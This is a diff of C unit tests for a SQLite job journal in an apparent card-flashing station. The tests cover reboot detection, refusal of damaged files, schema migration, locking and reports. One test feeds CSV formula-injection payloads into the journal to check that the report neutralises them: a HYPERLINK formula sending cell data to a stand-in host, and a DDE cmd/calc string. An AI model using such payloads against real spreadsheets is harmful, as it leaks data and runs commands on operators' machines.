@@ -1,5 +1,6 @@
 /* Unit tests for the journal: job rows, schema versions, concurrency and reports. */
 #include <errno.h>
+#include <fcntl.h>
 #include <inttypes.h>
 #include <math.h>
 #include <pthread.h>
@@ -14,6 +15,7 @@
 
 #include "testutil.h"
 #include "journal.h"
+#include "report.h"
 
 /* Values a hostile or broken device might report. */
 static const char h_quote[] = "a\"b\"\"c\"";
@@ -426,6 +428,258 @@ static void test_interrupt_running(void **state)
 	journal_close(j);
 }
 
+/* Points the journal's boot id at @path holding @id (NULL: the real boot's). */
+static void fake_boot(const char *path, const char *id)
+{
+	if (!id) {
+		unsetenv("BMAP_STATION_BOOT_ID_FILE");
+		return;
+	}
+	tu_write_file(path, id, strlen(id));
+	setenv("BMAP_STATION_BOOT_ID_FILE", path, 1);
+}
+
+/*
+ * DISKSEQ restarts at every boot and boots number disks alike: yesterday's
+ * success on the same syspath and DISKSEQ made the first card after a
+ * reboot look done, and it was skipped without a row.
+ */
+static void test_card_skipped_after_reboot(void **state)
+{
+	static const char boot_a[] = "0b3c6a3e-8d39-4f5e-a3a1-5f3e2b7c9d01\n";
+	static const char boot_b[] = "7f1e2d3c-4b5a-4968-8776-655443322110\n";
+	struct fixture *f = *state;
+	char *boot = tu_path(f->dir, "boot_id");
+	struct job_start s = plain_start();
+	struct job_end ok = { .outcome = OUTCOME_SUCCESS, .bytes_written = 1 };
+	struct journal *j;
+	enum outcome o = OUTCOME_RUNNING;
+	int64_t job;
+	sqlite3 *db;
+
+	fake_boot(boot, boot_a);
+	j = open_rw(f->path);
+	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), -ENOENT);
+	assert_int_equal(journal_job_start(j, &s, &job), 0);
+	assert_int_equal(journal_job_end(j, job, &ok), 0);
+	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), 0);
+	assert_int_equal(o, OUTCOME_SUCCESS);
+	journal_close(j);
+
+	/* The daemon restarted in the same boot: the card was dealt with. */
+	j = open_rw(f->path);
+	o = OUTCOME_RUNNING;
+	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), 0);
+	assert_int_equal(o, OUTCOME_SUCCESS);
+	journal_close(j);
+
+	/* A reboot: the same syspath and DISKSEQ are another card. */
+	fake_boot(boot, boot_b);
+	j = open_rw(f->path);
+	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), -ENOENT);
+	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
+	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), 0);
+	journal_close(j);
+
+	/* Each row says which boot it ran in. */
+	db = db_open(f->path);
+	check_text(db, 1, "boot_id", "0b3c6a3e-8d39-4f5e-a3a1-5f3e2b7c9d01");
+	check_text(db, job, "boot_id", "7f1e2d3c-4b5a-4968-8776-655443322110");
+	sqlite3_close(db);
+
+	/* Without a boot id to read, no earlier row is this card. */
+	setenv("BMAP_STATION_BOOT_ID_FILE", "/nonexistent/boot_id", 1);
+	j = open_rw(f->path);
+	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), -ENOENT);
+	journal_close(j);
+	fake_boot(NULL, NULL);
+	free(boot);
+}
+
+/* --- a damaged, truncated or odd file -------------------------------------- */
+
+/* A journal of a few jobs and a hook, its WAL written back into the file. */
+static void write_small_journal(const char *path)
+{
+	struct journal *j = open_rw(path);
+	struct job_start s = plain_start();
+	struct job_end ok = { .outcome = OUTCOME_SUCCESS, .bytes_written = 1 };
+	struct hook_record h = { .job = 1, .event = "on_success", .command = "true" };
+	int64_t job;
+	sqlite3 *db;
+
+	for (int i = 0; i < 20; i++)
+		assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
+	assert_int_equal(journal_hook_record(j, &h), 0);
+	journal_close(j);
+	db = db_open(path);
+	assert_int_equal(sqlite3_exec(db, "PRAGMA wal_checkpoint(TRUNCATE)", NULL, NULL, NULL),
+			 SQLITE_OK);
+	sqlite3_close(db);
+}
+
+/* Garbage over the first page of @table (its b-tree root) of the file at @path. */
+static void overwrite_root_page(const char *path, const char *table)
+{
+	char sql[128], junk[512];
+	int64_t page, size;
+	sqlite3 *db = db_open(path);
+
+	snprintf(sql, sizeof(sql), "rootpage FROM sqlite_schema WHERE name = '%s'", table);
+	page = get_int(db, -1, sql);
+	size = get_int(db, -1, "page_size FROM pragma_page_size");
+	sqlite3_close(db);
+	memset(junk, 0x5a, sizeof(junk));
+	tu_pwrite(path, junk, sizeof(junk), (uint64_t)((page - 1) * size));
+}
+
+static char *file_digest(const char *path)
+{
+	size_t len;
+	char *data = tu_read_file(path, &len), *hex = malloc(17);
+	uint64_t h = 1469598103934665603ull; /* FNV-1a: enough to see a change */
+
+	assert_non_null(hex);
+	for (size_t i = 0; i < len; i++)
+		h = (h ^ (unsigned char)data[i]) * 1099511628211ull;
+	snprintf(hex, 17, "%016" PRIx64, h);
+	free(data);
+	return hex;
+}
+
+/*
+ * With a page overwritten (one that report and status do not read), the
+ * journal opened as if nothing were wrong: reports exited 0, and the daemon
+ * started and retried its failing writes forever. Now every open checks it
+ * (PRAGMA quick_check) and refuses it, naming the file and the way out.
+ */
+static void test_damaged_journal_refused(void **state)
+{
+	struct fixture *f = *state;
+	struct journal *j = NULL;
+	char *err = NULL, *before, *after;
+
+	write_small_journal(f->path);
+	overwrite_root_page(f->path, "hooks");
+	before = file_digest(f->path);
+	for (int writer = 0; writer < 2; writer++) {
+		assert_int_equal(journal_open(f->path, !writer, &j, &err), -EBADMSG);
+		assert_null(j);
+		assert_non_null(strstr(err, f->path));
+		assert_non_null(strstr(err, "damaged"));
+		assert_non_null(strstr(err, "restore it from a backup or move it away"));
+		free(err);
+		err = NULL;
+	}
+	/* Refused before anything was written. */
+	after = file_digest(f->path);
+	assert_string_equal(before, after);
+	free(before);
+	free(after);
+}
+
+/*
+ * A journal truncated to 0 bytes was silently made anew, and job numbers
+ * started again at 1. Its -wal and -shm files (kept by the station) say a
+ * journal was there: refused. An empty file alone (touch, or a sqlite3
+ * shell that looked first) becomes a journal.
+ */
+static void test_truncated_journal_not_recreated(void **state)
+{
+	struct fixture *f = *state;
+	struct job_start s = plain_start();
+	struct journal *j = NULL;
+	char *err = NULL, *fresh = tu_path(f->dir, "fresh.db");
+	struct stat st;
+	int64_t job;
+
+	j = open_rw(f->path);
+	assert_int_equal(journal_job_start(j, &s, &job), 0);
+	journal_close(j);
+	j = NULL;
+	tu_truncate(f->path, 0);
+	assert_int_equal(journal_open(f->path, false, &j, &err), -EBADMSG);
+	assert_null(j);
+	assert_non_null(strstr(err, f->path));
+	assert_non_null(strstr(err, "empty"));
+	assert_non_null(strstr(err, "restore it from a backup"));
+	free(err);
+	err = NULL;
+	assert_int_equal(stat(f->path, &st), 0);
+	assert_int_equal(st.st_size, 0);
+	assert_int_equal(journal_open(f->path, true, &j, &err), -EPROTO);
+	free(err);
+
+	tu_write_file(fresh, "", 0);
+	j = open_rw(fresh);
+	assert_int_equal(journal_job_start(j, &s, &job), 0);
+	assert_int_equal(job, 1);
+	journal_close(j);
+	free(fresh);
+}
+
+/* `report --db FIFO` hung in open(): SQLite's open() of a FIFO waits for a
+ * writer. (The test holds the FIFO open itself, so that the check does not
+ * depend on a hang: what is refused is that it is no regular file.) */
+static void test_fifo_journal_refused(void **state)
+{
+	struct fixture *f = *state;
+	char *fifo = tu_path(f->dir, "fifo.db"), *dir = tu_path(f->dir, "folder.db");
+	struct journal *j = NULL;
+	char *err = NULL;
+	int fd;
+
+	assert_int_equal(mkfifo(fifo, 0600), 0);
+	fd = open(fifo, O_RDWR | O_NONBLOCK | O_CLOEXEC);
+	assert_true(fd >= 0);
+	for (int writer = 0; writer < 2; writer++) {
+		assert_int_equal(journal_open(fifo, !writer, &j, &err), -EINVAL);
+		assert_non_null(strstr(err, fifo));
+		assert_non_null(strstr(err, "FIFO"));
+		free(err);
+		err = NULL;
+	}
+	close(fd);
+	assert_int_equal(mkdir(dir, 0700), 0);
+	assert_int_equal(journal_open(dir, true, &j, &err), -EINVAL);
+	assert_non_null(strstr(err, "folder"));
+	free(err);
+	free(fifo);
+	free(dir);
+}
+
+/*
+ * Damage that appears while the station runs: the write fails with
+ * -EBADMSG and journal_damaged() says so with the way out, so that the
+ * station stops instead of retrying for ever. (Another connection's write
+ * makes ours read the pages again, from the damaged file.)
+ */
+static void test_damage_found_while_open(void **state)
+{
+	struct fixture *f = *state;
+	struct job_start s = plain_start();
+	struct journal *j;
+	int64_t job;
+	sqlite3 *db;
+
+	write_small_journal(f->path);
+	j = open_rw(f->path);
+	assert_null(journal_damaged(j));
+	db = db_open(f->path);
+	assert_int_equal(sqlite3_exec(db, "PRAGMA wal_checkpoint(TRUNCATE)", NULL, NULL, NULL),
+			 SQLITE_OK);
+	overwrite_root_page(f->path, "jobs");
+	assert_int_equal(sqlite3_exec(db, "INSERT INTO forgotten VALUES ('x', 'now')", NULL, NULL,
+				      NULL),
+			 SQLITE_OK);
+	sqlite3_close(db);
+	assert_int_equal(journal_job_start(j, &s, &job), -EBADMSG);
+	assert_non_null(journal_damaged(j));
+	assert_non_null(strstr(journal_damaged(j), f->path));
+	assert_non_null(strstr(journal_damaged(j), "restore it from a backup or move it away"));
+	journal_close(j);
+}
+
 /* --- the file: versions, reopening, read-only -------------------------------- */
 
 static void test_version_and_reopen(void **state)
@@ -452,7 +706,7 @@ static void test_version_and_reopen(void **state)
 	free(shm);
 
 	db = db_open(f->path);
-	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 4);
+	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 5);
 	assert_int_equal(get_int(db, -1, "application_id FROM pragma_application_id"),
 			 0x626d7374);
 	mode = get_str(db, -1, "journal_mode FROM pragma_journal_mode");
@@ -508,6 +762,41 @@ static void test_serial_passed_and_forget(void **state)
 	sqlite3_close(db);
 }
 
+/* A version 4 journal (before boot ids) gains the column; its rows have
+ * none and match no card of this boot, so such a card is flashed again
+ * rather than skipped. */
+static void test_migrate_from_v4(void **state)
+{
+	struct fixture *f = *state;
+	struct journal *j = open_rw(f->path);
+	struct job_start s = plain_start();
+	struct job_end ok = { .outcome = OUTCOME_SUCCESS };
+	enum outcome o;
+	int64_t job;
+	sqlite3 *db;
+
+	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
+	journal_close(j);
+	db = db_open(f->path);
+	assert_int_equal(sqlite3_exec(db,
+				      "DROP INDEX jobs_insertion; ALTER TABLE jobs DROP COLUMN boot_id;"
+				      " PRAGMA user_version = 4",
+				      NULL, NULL, NULL),
+			 SQLITE_OK);
+	sqlite3_close(db);
+
+	j = open_rw(f->path);
+	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), -ENOENT);
+	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
+	assert_int_equal(journal_last_outcome(j, s.syspath, s.diskseq, &o), 0);
+	journal_close(j);
+	db = db_open(f->path);
+	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 5);
+	assert_int_equal(get_int(db, -1, "count(*) FROM jobs WHERE boot_id IS NULL"), 1);
+	assert_int_equal(get_int(db, -1, "count(*) FROM jobs WHERE boot_id IS NOT NULL"), 1);
+	sqlite3_close(db);
+}
+
 /* A version 1 journal gains the forgotten table and keeps its rows. */
 static void test_migrate_from_v1(void **state)
 {
@@ -521,8 +810,11 @@ static void test_migrate_from_v1(void **state)
 	assert_int_equal(journal_job_once(j, &s, &ok, &job), 0);
 	journal_close(j);
 	db = db_open(f->path);
-	assert_int_equal(sqlite3_exec(db, "DROP TABLE live; DROP TABLE hooks; DROP TABLE forgotten; PRAGMA user_version = 1", NULL,
-				      NULL, NULL),
+	assert_int_equal(sqlite3_exec(db,
+				      "DROP INDEX jobs_insertion; ALTER TABLE jobs DROP COLUMN boot_id;"
+				      " DROP TABLE live; DROP TABLE hooks; DROP TABLE forgotten;"
+				      " PRAGMA user_version = 1",
+				      NULL, NULL, NULL),
 			 SQLITE_OK);
 	sqlite3_close(db);
 
@@ -531,7 +823,7 @@ static void test_migrate_from_v1(void **state)
 	assert_int_equal(journal_forget(j, s.serial), 0);
 	journal_close(j);
 	db = db_open(f->path);
-	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 4);
+	assert_int_equal(get_int(db, -1, "user_version FROM pragma_user_version"), 5);
 	assert_int_equal(get_int(db, -1, "count(*) FROM forgotten"), 1);
 	assert_int_equal(get_int(db, -1, "count(*) FROM jobs"), 1);
 	sqlite3_close(db);
@@ -1103,6 +1395,67 @@ static void check_json(const char *lines, int idx, const char *key, const char *
 	free(hex);
 }
 
+/*
+ * CSV reports let spreadsheet formulas through: a serial "=HYPERLINK(...)"
+ * became a live formula in the operator's spreadsheet. A text cell that
+ * starts with =, +, -, @, a tab or a CR gets a ' in front (OWASP); numbers
+ * and JSON stay as they are.
+ */
+static void test_csv_formula_neutralised(void **state)
+{
+	static const char *const evil[] = {
+		"=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+		"-2+3", "@SUM(1,2)", "\tTAB", "\rCR", "safe=1",
+	};
+	static const char *const want[] = {
+		"'=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0",
+		"'-2+3", "'@SUM(1,2)", "'\tTAB", "'\rCR", "safe=1",
+	};
+	struct fixture *f = *state;
+	struct journal *j = open_rw(f->path);
+	struct job_end e = { .outcome = OUTCOME_FAILED, .error = "-x", .bytes_written = 0 };
+	struct csv_row *rows;
+	size_t len, n, col_serial = 0, col_error = 0, col_size = 0;
+	int64_t job;
+	char *buf;
+
+	for (size_t i = 0; i < sizeof(evil) / sizeof(evil[0]); i++) {
+		struct job_start s = plain_start();
+
+		s.serial = evil[i];
+		assert_int_equal(journal_job_once(j, &s, &e, &job), 0);
+	}
+	buf = report(j, REPORT_CSV, &len);
+	n = csv_parse(buf, len, &rows);
+	assert_int_equal(n, 1 + sizeof(evil) / sizeof(evil[0]));
+	for (size_t c = 0; c < rows[0].n; c++) {
+		if (strcmp(rows[0].f[c].s, "serial") == 0)
+			col_serial = c;
+		else if (strcmp(rows[0].f[c].s, "error") == 0)
+			col_error = c;
+		else if (strcmp(rows[0].f[c].s, "size") == 0)
+			col_size = c;
+	}
+	assert_true(col_serial && col_error && col_size);
+	/* Newest first. */
+	for (size_t i = 0; i < sizeof(evil) / sizeof(evil[0]); i++) {
+		const struct csv_row *r = &rows[n - 1 - i];
+
+		assert_int_equal(r->f[col_serial].len, strlen(want[i]));
+		assert_memory_equal(r->f[col_serial].s, want[i], strlen(want[i]));
+		assert_string_equal(r->f[col_error].s, "'-x");
+		assert_string_equal(r->f[col_size].s, "31914983424");
+	}
+	csv_free(rows, n);
+	free(buf);
+	/* JSON keeps the values as they are. */
+	buf = report(j, REPORT_JSON, &len);
+	assert_non_null(strstr(buf, "\"serial\":\"=HYPERLINK("));
+	assert_non_null(strstr(buf, "\"error\":\"-x\""));
+	free(buf);
+	journal_close(j);
+}
+
 static void test_json_hostile(void **state)
 {
 	struct fixture *f = *state;
@@ -1191,6 +1544,138 @@ static void test_table_hostile(void **state)
 	assert_null(strstr(buf, "\xff"));
 	free(buf);
 	journal_close(j);
+}
+
+/* --- the live table and status ----------------------------------------- */
+
+static void live_row_add(struct journal *j, const char *syspath, const char *slot,
+			 const char *serial, const char *state, uint64_t done, uint64_t total)
+{
+	struct live_row l = {
+		.syspath = syspath, .station = "line-1", .slot = slot, .devnode = "/dev/sdb",
+		.serial = serial, .profile = "pi", .state = state, .job = 1, .done = done,
+		.total = total, .rate = total ? 2e6 : 0, .last_outcome = "success",
+	};
+
+	assert_int_equal(journal_live_set(j, &l), 0);
+}
+
+static char *status(struct journal *j, bool json)
+{
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *out = open_memstream(&buf, &len);
+
+	assert_non_null(out);
+	assert_int_equal(journal_status(j, json, out), 0);
+	assert_int_equal(fclose(out), 0);
+	return buf;
+}
+
+/* The column (in code points) at which @word starts on @line, or -1. */
+static long column_of(const char *line, const char *word)
+{
+	const char *at = strstr(line, word);
+	long col = 0;
+
+	if (!at)
+		return -1;
+	for (const char *p = line; p < at; p++)
+		if (((unsigned char)*p & 0xc0) != 0x80)
+			col++;
+	return col;
+}
+
+/* A serial longer than its column pushed the rest of its row out of line. */
+static void test_status_long_serial_keeps_columns(void **state)
+{
+	struct fixture *f = *state;
+	struct journal *j = open_rw(f->path);
+	/* The header's words, then each row's (rows go by slot). */
+	static const char *const profile_at[] = { "PROFILE", "pi ", "pi ", "pi " };
+	static const char *const state_at[] = { "STATE", "done", "writing", "waiting" };
+	char *buf, *line, *save = NULL;
+	long want_profile = -1, want_state = -1;
+	unsigned rows = 0;
+
+	live_row_add(j, "/sys/a", "slot-a", "A", "done", 0, 0);
+	live_row_add(j, "/sys/b", "slot-b", "USB-SERIAL-0123456789ABCDEF-\xe2\x9c\x93", "writing",
+		     150, 1000);
+	live_row_add(j, "/sys/c", "slot-c", "C", "waiting", 0, 0);
+	buf = status(j, false);
+	for (line = strtok_r(buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
+		long p, s;
+
+		assert_true(rows < 4);
+		p = column_of(line, profile_at[rows]);
+		s = column_of(line, state_at[rows]);
+		assert_true(p > 0 && s > p);
+		if (rows == 0) {
+			want_profile = p;
+			want_state = s;
+		}
+		assert_int_equal(p, want_profile);
+		assert_int_equal(s, want_state);
+		rows++;
+	}
+	assert_int_equal(rows, 4);
+	free(buf);
+	journal_close(j);
+}
+
+/*
+ * A second `run` on the same journal marked the first one's running jobs
+ * interrupted and cleared its live table. Now the first holds a lock (an
+ * OFD lock, which conflicts between two opens in one process as between
+ * two processes): the second refuses before touching anything, naming the
+ * pid, and readers can tell whether a station runs.
+ */
+static void test_second_station_refused(void **state)
+{
+	struct fixture *f = *state;
+	struct job_start s = plain_start();
+	struct journal *first = NULL, *second = NULL, *reader = NULL;
+	char *err = NULL, *link = tu_path(f->dir, "other-name.db"), want[64];
+	int64_t job;
+	pid_t pid = 0;
+	sqlite3 *db;
+
+	assert_int_equal(journal_open_station(f->path, &first, &err), 0);
+	assert_null(err);
+	assert_int_equal(journal_job_start(first, &s, &job), 0);
+	live_row_add(first, "/sys/a", "slot-a", "A", "writing", 1, 2);
+
+	snprintf(want, sizeof(want), "pid %d", (int)getpid());
+	assert_int_equal(journal_open_station(f->path, &second, &err), -EBUSY);
+	assert_null(second);
+	assert_non_null(strstr(err, want));
+	assert_non_null(strstr(err, f->path));
+	free(err);
+	err = NULL;
+	/* Through another name of the same file too. */
+	assert_int_equal(symlink(f->path, link), 0);
+	assert_int_equal(journal_open_station(link, &second, &err), -EBUSY);
+	assert_non_null(strstr(err, want));
+	free(err);
+	err = NULL;
+
+	/* Nothing was touched: the job runs, the live row is there. */
+	db = db_open(f->path);
+	check_text(db, job, "outcome", "running");
+	assert_int_equal(get_int(db, -1, "count(*) FROM live"), 1);
+	sqlite3_close(db);
+
+	assert_int_equal(journal_open(f->path, true, &reader, &err), 0);
+	assert_int_equal(journal_station_pid(reader, &pid), 1);
+	assert_int_equal(pid, getpid());
+	journal_close(first);
+	assert_int_equal(journal_station_pid(reader, &pid), 0);
+	journal_close(reader);
+
+	/* Once the first is gone, the next one starts. */
+	assert_int_equal(journal_open_station(link, &second, &err), 0);
+	journal_close(second);
+	free(link);
 }
 
 /* --- filters, summary, history, several stations ------------------------- */
@@ -1476,6 +1961,53 @@ static void check_summary(struct csv_row *rows, size_t n, const char *day, const
 	check_csv(rows, (size_t)(row - rows), col, want);
 }
 
+/*
+ * The live view's day counted refused cards as failed, report --summary
+ * leaves refused and interrupted jobs out: one yield now, for both.
+ */
+static void test_today_yield_is_the_summary_yield(void **state)
+{
+	static const enum outcome all[] = {
+		OUTCOME_SUCCESS, OUTCOME_SUCCESS, OUTCOME_SUCCESS, OUTCOME_FAILED,
+		OUTCOME_VERIFY_FAILED, OUTCOME_REMOVED, OUTCOME_TIMEOUT, OUTCOME_INTERRUPTED,
+		OUTCOME_REFUSED, OUTCOME_REFUSED, OUTCOME_IGNORED,
+	};
+	struct fixture *f = *state;
+	struct journal *j = open_rw(f->path);
+	struct day_counts c = { 0 };
+	struct report_filter flt = { .since = NULL };
+	char since[JOURNAL_TIME_MAX], *buf = NULL;
+	struct csv_row *rows;
+	size_t len = 0, n;
+	FILE *out;
+
+	assert_int_equal(journal_today(j, &c), 0);
+	assert_true(c.yield_pct < 0); /* nothing ended yet */
+	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++)
+		add_job(j, "l", "pi", "a", "s", all[i]);
+	assert_int_equal(journal_today(j, &c), 0);
+	assert_int_equal(c.flashed, 10);
+	assert_int_equal(c.passed, 3);
+	assert_int_equal(c.failed, 4);
+	assert_int_equal(c.refused, 2);
+	assert_int_equal(c.interrupted, 1);
+	assert_true(fabs(c.yield_pct - 42.9) < 1e-9); /* 3 of 7 */
+
+	assert_int_equal(journal_parse_time("today", false, since), 0);
+	flt.since = since;
+	out = open_memstream(&buf, &len);
+	assert_non_null(out);
+	assert_int_equal(journal_summary(j, &flt, REPORT_CSV, out), 0);
+	assert_int_equal(fclose(out), 0);
+	n = csv_parse(buf, len, &rows);
+	assert_int_equal(n, 2);
+	assert_string_equal(rows[0].f[10].s, "yield_pct");
+	assert_string_equal(rows[1].f[10].s, "42.9");
+	csv_free(rows, n);
+	free(buf);
+	journal_close(j);
+}
+
 static void test_summary_math(void **state)
 {
 	static const char *const header =
@@ -1756,9 +2288,16 @@ int main(int argc, char **argv)
 		T(test_end_unknown_or_finished_fails),
 		T(test_once),
 		T(test_interrupt_running),
+		T(test_card_skipped_after_reboot),
+		T(test_second_station_refused),
 		T(test_version_and_reopen),
 		T(test_serial_passed_and_forget),
 		T(test_migrate_from_v1),
+		T(test_migrate_from_v4),
+		T(test_damaged_journal_refused),
+		T(test_truncated_journal_not_recreated),
+		T(test_fifo_journal_refused),
+		T(test_damage_found_while_open),
 		T(test_newer_version_refused),
 		T(test_foreign_database_refused),
 		T(test_open_errors_name_the_file),
@@ -1767,12 +2306,15 @@ int main(int argc, char **argv)
 		T(test_concurrent_reader),
 		T(test_busy_writer_waits),
 		T(test_csv_hostile),
+		T(test_csv_formula_neutralised),
 		T(test_json_hostile),
 		T(test_table_hostile),
+		T(test_status_long_serial_keeps_columns),
 		T(test_report_filters),
 		T(test_history_order),
 		T(test_parse_time),
 		T(test_summary_math),
+		T(test_today_yield_is_the_summary_yield),
 		T(test_multi_db),
 	};
 
@@ -1781,5 +2323,8 @@ int main(int argc, char **argv)
 		return write_fixture(argv[2], argc == 4 ? argv[3] : NULL);
 
 #undef T
+	/* JOURNAL_TEST=NAME runs the tests whose names match (a glob). */
+	if (getenv("JOURNAL_TEST"))
+		cmocka_set_test_filter(getenv("JOURNAL_TEST"));
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
